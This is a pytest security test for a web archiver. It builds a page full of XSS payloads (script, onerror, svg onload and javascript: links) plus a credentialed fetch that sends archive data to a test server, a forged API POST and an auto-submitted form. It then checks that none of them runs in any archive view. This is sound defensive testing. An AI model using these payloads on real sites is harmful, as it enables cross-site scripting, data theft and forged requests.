"""An archived page is hostile input (SECURITY.md §1).

A page full of attacks is archived by `archiver save` (real Chromium) from the fixture server,
then opened in every view of a real `archiver serve` in a real Chromium. Its scripts only act
when they find themselves off the fixture server, i.e. inside the archive; so during the
capture nothing happens, and any request, dialog, global or title change seen later means
archived code ran in the archive.
"""

from __future__ import annotations

import hashlib
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from conftest import FixtureServer, LiveServer
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from archiver import store
from archiver.models import Capture

XSS_TITLE = "<img src=x onerror=alert(1)>"
FAST = ["--timeout", "10", "--request-timeout", "2", "--page-deadline", "30"]


def hostile_page(fixture: str, archive: str, refresh: int = 60) -> str:
    """Every trick in SECURITY.md §1. `fixture` and `archive` are origins (scheme://host:port).

    The capture browser obeys a meta refresh, so the archived page's is slow; a copy with an
    immediate one is stored directly (`refreshing`)."""
    port = fixture.rsplit(":", 1)[1]
    attack = f"""(function () {{
      if (location.port === "{port}") return;  /* on its own site: behave */
      window.__pwned = true; document.title = "PWNED"; alert("xss");
      new Image().src = "{fixture}/mark/script";
      fetch("{archive}/archive/captures.json", {{credentials: "include"}})
        .then(r => r.text()).then(t => fetch("{fixture}/mark/exfil?n=" + t.length));
      fetch("{archive}/-/archiver/api/captures", {{method: "POST", credentials: "include",
        headers: {{"Content-Type": "application/json"}}, body: "{{}}"}});
      document.forms[0] && document.forms[0].submit();
    }})()"""
    onerror = (f"if(location.port!=='{port}'){{window.__pwned=true;"
               f"new Image().src='{fixture}/mark/onerror'}}")
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>{XSS_TITLE.replace("<", "&lt;")}</title>
<meta http-equiv="refresh" content="{refresh};url={fixture}/mark/refresh">
<base href="{fixture}/mark/base/">
<link rel="stylesheet" href="{fixture}/mark/style.css">
<link rel="dns-prefetch" href="//prefetch.invalid">
<style>body {{ background: url({fixture}/mark/background.png) }}</style>
<script>{attack}</script>
</head><body>
<article>
<h1>{XSS_TITLE.replace("<", "&lt;")}</h1>
<p>The harbourmaster's ledger describes a cormorant colony on the breakwater, counted every
spring by the lighthouse keepers, who noted the weather, the tides and the birds in the same
careful hand for more than forty years.</p>
<p>Later keepers kept counting after the light was automated, sending their tallies to the
museum in town, where the ledgers are on display beside the old brass lens.</p>
<p><img src="x" onerror="{onerror}" alt="tracking pixel">
<svg onload="{onerror}"><circle r="4"/></svg>
<a href="javascript:{onerror}">a javascript: link</a>
<iframe src="{fixture}/mark/iframe"></iframe>
<object data="{fixture}/mark/object"></object>
<img src="{fixture}/mark/image.png" alt="a remote image"></p>
<form action="{archive}/-/archiver/api/captures" method="post">
<input name="url" value="https://evil.example/"><button>Save</button></form>
</article>
</body></html>"""


def save(db_path: Path, url: str) -> int:
    result = subprocess.run([sys.executable, "-m", "archiver", "save", url, "--db",
                             str(db_path), *FAST], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return int(result.stdout.split("\t")[0])


def fingerprint(db_path: Path) -> str:
    """A hash of every row of the archive, less the thumbnails the views make and keep."""
    conn = sqlite3.connect(":memory:")
    try:
        with closing(sqlite3.connect(db_path)) as archive:
            archive.backup(conn)
        conn.execute("DELETE FROM blobs WHERE hash IN (SELECT thumbnail_hash FROM captures)")
        conn.execute("UPDATE captures SET thumbnail_hash = NULL")
        return hashlib.sha256("\n".join(conn.iterdump()).encode()).hexdigest()
    finally:
        conn.close()


@pytest.fixture(scope="module")
def hostile(server: FixtureServer, tmp_path_factory: pytest.TempPathFactory
            ) -> Iterator[dict[str, Any]]:
    db_path = tmp_path_factory.mktemp("hostile") / "archive.db"
    store.open_db(db_path).close()
    live = LiveServer(db_path)
    fixture = server.url("").rstrip("/")
    server.add_page("/hostile/page.html", hostile_page(fixture, live.url))
    first = save(db_path, server.url("/hostile/page.html"))
    second = save(db_path, server.url("/hostile/page.html"))
    db = store.open_db(db_path)
    refreshing = store.save_capture(db, Capture(
        url=server.url("/hostile/refresh.html"), content_type="text/html",
        html=hostile_page(fixture, live.url, refresh=0), title="Refreshing",
        captured_at="2026-01-01T00:00:00Z"), None)
    store.add_tags(db, [store.page_of_capture(db, first)], [XSS_TITLE])
    store.set_note(db, store.page_of_capture(db, first), XSS_TITLE)
    capture = store.get_capture(db, first)
    snapshot = store.get_blob(db, capture["snapshot_hash"]).content.decode()
    db.close()
    yield {"db_path": db_path, "live": live, "first": first, "second": second,
           "refreshing": refreshing,
           "capture": capture, "snapshot": snapshot}
    live.stop()


@pytest.fixture(scope="module")
def browser(chromium: Browser) -> Browser:
    return chromium


class Visit:
    """One browser tab that records dialogs and every request it makes."""

    def __init__(self, browser: Browser) -> None:
        self.context = browser.new_context()
        self.page: Page = self.context.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []  # that got an answer
        self.blocked: list[str] = []  # that the browser refused to send
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.context.on("requestfinished", lambda r: self.requests.append(r.url))
        self.context.on("requestfailed", lambda r: self.blocked.append(
            f"{r.failure} {r.url}"))

    def open(self, url: str) -> None:
        self.page.goto(url, wait_until="load", timeout=15000)
        self.page.wait_for_timeout(1000)  # time for a refresh, a late script, an image

    def script_ran(self) -> bool:
        """Whether an archived script ran in any frame of the tab. A frame that cannot be
        asked must be one where no script can run (an `<iframe sandbox>` without
        allow-scripts); any other failure to ask is an error, never a "no"."""
        for frame in self.page.frames:
            try:
                if frame.evaluate("() => window.__pwned === true"):
                    return True
            except PlaywrightError:
                if not _scripts_disabled(frame):
                    raise
        return self.page.title() == "PWNED"


def _scripts_disabled(frame: Any) -> bool:
    """A child frame whose `<iframe>` is sandboxed without allow-scripts."""
    if frame.parent_frame is None:
        return False
    sandbox = frame.frame_element().get_attribute("sandbox")
    return sandbox is not None and "allow-scripts" not in sandbox.split()


def test_the_attacks_were_archived(hostile: dict[str, Any]) -> None:
    """The test is only meaningful if the snapshot still holds the attacks."""
    snapshot = hostile["snapshot"]
    for needle in ("<script>", "onerror=", "<svg onload", 'http-equiv="refresh"', "<base ",
                   "<form action", "credentials"):
        assert needle in snapshot, needle
    assert hostile["capture"]["title"] == XSS_TITLE


def view_paths(hostile: dict[str, Any]) -> list[str]:
    first, page_id = hostile["first"], hostile["capture"]["page_id"]
    return [
        "/-/archiver/archive/", "/-/archiver/archive/search?q=cormorant",
        f"/-/archiver/archive/search?tag={XSS_TITLE}",
        f"/-/archiver/archive/{first}", f"/-/archiver/archive/{first}/raw",
        f"/-/archiver/archive/{first}/snapshot", f"/-/archiver/archive/{first}/screenshot",
        f"/-/archiver/archive/{first}/thumbnail", f"/-/archiver/archive/page/{page_id}",
        f"/-/archiver/archive/{first}/screenshot-view", f"/-/archiver/archive/{first}/markdown",
        f"/-/archiver/archive/{hostile['refreshing']}/raw",
        f"/-/archiver/archive/{hostile['refreshing']}/snapshot",
        "/archive/captures", f"/archive/captures/{first}", "/archive/page_tags",
        "/archive/search?q=cormorant", "/archive/recent",
    ]


def test_no_archived_script_runs_in_any_view(hostile: dict[str, Any], browser: Browser,
                                             server: FixtureServer) -> None:
    live: LiveServer = hostile["live"]
    before_rows = fingerprint(hostile["db_path"])
    before_hits = len(server.requests)
    visit = Visit(browser)
    for path in view_paths(hostile):
        visit.open(live.url + path)
        assert not visit.script_ran(), path
        assert visit.dialogs == [], path
        assert visit.page.url.startswith(live.url), f"{path} navigated to {visit.page.url}"
    visit.context.close()
    assert server.requests[before_hits:] == []  # nothing reached the hostile page's site
    outside = [u for u in visit.requests if not u.startswith(live.url)]
    assert outside == []
    # Refused by the browser: by the CSP, or an archived error page that the archived page
    # used as an image or a stylesheet (ORB, or a 404), from the archive itself.
    assert all(b.startswith("csp ") or b.split(" ", 1)[1].startswith(f"{live.url}/")
               for b in visit.blocked), visit.blocked
    assert not [u for u in visit.requests if "/-/archiver/api/" in u or ".json" in u]
    assert fingerprint(hostile["db_path"]) == before_rows


def test_clicking_inside_the_archived_page_posts_nothing(hostile: dict[str, Any],
                                                         browser: Browser,
                                                         server: FixtureServer) -> None:
    live: LiveServer = hostile["live"]
    before_rows, before_hits = fingerprint(hostile["db_path"]), len(server.requests)
    visit = Visit(browser)
    visit.open(f"{live.url}/-/archiver/archive/{hostile['first']}/raw")
    frame = visit.page.frame_locator("iframe.snapshot")
    frame.locator("button").click(timeout=5000)
    frame.get_by_text("a javascript: link").click(timeout=5000)
    visit.page.wait_for_timeout(1000)
    assert not visit.script_ran() and visit.dialogs == []
    assert not [u for u in visit.requests if "/-/archiver/api/" in u]
    assert server.requests[before_hits:] == []
    assert fingerprint(hostile["db_path"]) == before_rows
    visit.context.close()


def test_reader_view_shows_the_title_as_text(hostile: dict[str, Any], browser: Browser) -> None:
    live: LiveServer = hostile["live"]
    visit = Visit(browser)
    visit.open(f"{live.url}/-/archiver/archive/{hostile['first']}")
    page = visit.page
    assert page.locator("article h1").inner_text() == XSS_TITLE
    assert page.title() == XSS_TITLE
    assert page.locator(".tags .tag").inner_text() == XSS_TITLE
    assert page.locator(".note").inner_text() == XSS_TITLE
    body = page.locator(".article-body")
    assert body.locator("svg, iframe, object, form, script").count() == 0
    for src in body.locator("img").evaluate_all("images => images.map(i => i.src)"):
        assert src.startswith(f"{live.url}/-/archiver/archive/"), src  # archived images only
    assert "cormorant colony" in body.inner_text()
    assert all(not (a.get_attribute("href") or "").startswith("javascript:")
               for a in body.locator("a").all())
    visit.context.close()


def test_live_images_are_opt_in_and_still_run_nothing(hostile: dict[str, Any],
                                                      browser: Browser,
                                                      server: FixtureServer) -> None:
    """?images=live loads the article's images from their site (the user asked for that);
    no other request and no script."""
    live: LiveServer = hostile["live"]
    before_hits = len(server.requests)
    visit = Visit(browser)
    visit.open(f"{live.url}/-/archiver/archive/{hostile['first']}?images=live")
    assert not visit.script_ran() and visit.dialogs == []
    paths = {r["path"] for r in server.requests[before_hits:]}
    assert paths <= {"/mark/image.png", "/mark/base/x"}  # the article's two images
    visit.context.close()
